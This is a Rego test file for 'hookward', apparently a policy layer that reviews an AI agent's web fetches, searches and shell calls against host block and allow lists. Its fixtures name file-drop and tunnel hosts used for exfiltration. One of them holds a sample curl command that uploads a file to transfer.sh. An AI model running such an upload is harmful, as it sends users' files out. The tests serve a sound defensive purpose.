package hookward.web_test

import data.hookward.main as rules

fetch(url, host, web) := {
	"event": {"kind": "PreToolUse", "tool": {"name": "WebFetch", "kind": "fetch", "url": url, "input": {"url": url}}},
	"facts": {"project_dir": "/p", "paths": [], "net": [{"url": url, "host": host, "class": "public", "via": "tool", "how": "WebFetch", "credentials": false, "admin_port": false, "mixed_script": false, "evidence": url}]},
	"config": {"web": web},
}

web_ids(inp) := got if {
	got := {d.id: d.decision | some d in rules.decision; startswith(d.id, "web/")} with input as inp
}

search(domains, web) := {
	"event": {"kind": "PreToolUse", "tool": {"name": "WebSearch", "kind": "fetch", "input": object.union({"query": "rust sqlite"}, domains)}},
	"facts": {"project_dir": "/p", "paths": [], "net": []},
	"config": {"web": web},
}

test_blocked_host_and_subdomain_denied if {
	web := {"block_hosts": ["pastebin.com"], "allow_hosts": []}
	web_ids(fetch("https://pastebin.com/raw/x", "pastebin.com", web))["web/blocked-host"] == "deny"
	web_ids(fetch("https://api.PASTEBIN.com/x", "api.pastebin.com", web))["web/blocked-host"] == "deny"
}

test_suffix_is_not_a_subdomain if {
	web := {"block_hosts": ["pastebin.com"], "allow_hosts": []}
	count(web_ids(fetch("https://notpastebin.com/", "notpastebin.com", web))) == 0
}

test_glob_entry if {
	web := {"block_hosts": ["*.ngrok-free.app"], "allow_hosts": []}
	web_ids(fetch("https://a1b2.ngrok-free.app/", "a1b2.ngrok-free.app", web))["web/blocked-host"] == "deny"
}

test_shell_fetch_to_blocked_host_denied if {
	inp := {
		"event": {"kind": "PreToolUse", "tool": {"name": "Bash", "kind": "shell"}},
		"facts": {"paths": [], "net": [{"url": "https://transfer.sh/x", "host": "transfer.sh", "class": "public", "via": "shell", "how": "upload", "evidence": "curl -T f https://transfer.sh/x"}]},
		"config": {"web": {"block_hosts": ["transfer.sh"], "allow_hosts": ["docs.rs"]}},
	}
	got := web_ids(inp)
	got["web/blocked-host"] == "deny"
	not got["web/host-not-allowed"]
}

test_allow_list_denies_other_hosts_for_fetch_tools_only if {
	web := {"block_hosts": [], "allow_hosts": ["docs.rs", "*.python.org"]}
	web_ids(fetch("https://example.com/", "example.com", web))["web/host-not-allowed"] == "deny"
	count(web_ids(fetch("https://docs.rs/regex", "docs.rs", web))) == 0
	count(web_ids(fetch("https://docs.python.org/3/", "docs.python.org", web))) == 0
	inp := {
		"event": {"kind": "PreToolUse", "tool": {"name": "Bash", "kind": "shell"}},
		"facts": {"paths": [], "net": [{"url": "https://example.com/", "host": "example.com", "class": "public", "via": "shell", "how": "fetch", "evidence": "curl https://example.com/"}]},
		"config": {"web": web},
	}
	count(web_ids(inp)) == 0
}

test_no_lists_no_decisions if {
	count(web_ids(fetch("https://example.com/", "example.com", {"block_hosts": [], "allow_hosts": []}))) == 0
	count(web_ids(search({}, {"block_hosts": [], "allow_hosts": []}))) == 0
}

test_search_must_stay_inside_the_allow_list if {
	web := {"block_hosts": [], "allow_hosts": ["docs.rs", "*.python.org"]}
	web_ids(search({}, web))["web/search-outside-allowed"] == "deny"
	web_ids(search({"allowed_domains": ["docs.rs", "example.com"]}, web))["web/search-outside-allowed"] == "deny"
	count(web_ids(search({"allowed_domains": ["docs.rs", "docs.python.org"]}, web))) == 0
}
